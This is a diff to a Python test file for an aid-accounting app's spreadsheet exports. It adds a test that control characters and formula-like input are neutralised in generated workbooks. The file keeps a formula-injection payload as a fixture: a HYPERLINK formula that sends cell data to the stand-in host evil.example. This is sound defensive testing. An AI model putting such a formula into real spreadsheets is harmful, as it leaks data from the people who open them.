@@ -10,7 +10,7 @@ from aid_accounting.payouts.batches import approve_batch, draft_batch, export_ba
 from aid_accounting.payouts.models import PayoutBatch
 from aid_accounting.transparency.report_export import to_csv, to_xlsx
 from aid_accounting.transparency.reports import Column, Report
-from core.spreadsheet import inert
+from core.spreadsheet import inert, xlsx_bytes
 from tests.aid_accounting.payouts.test_batches import distributed  # noqa: F401 (fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
@@ -65,3 +65,14 @@ def test_a_household_named_like_a_formula_is_text_in_the_bank_file(
     cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
     assert "'" + SHORT_HOSTILE in cells
     assert not any(cell.startswith("=") for cell in cells)
+
+
+def test_control_characters_typed_into_a_form_do_not_break_a_workbook():
+    content = xlsx_bytes(title="记录", header=["用途"], rows=[["核\x1b对\x00名单"], ["=1+1\x07"]])
+
+    sheet = load_workbook(io.BytesIO(content)).active
+
+    assert [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)] == [
+        "核对名单",
+        "'=1+1",
+    ]
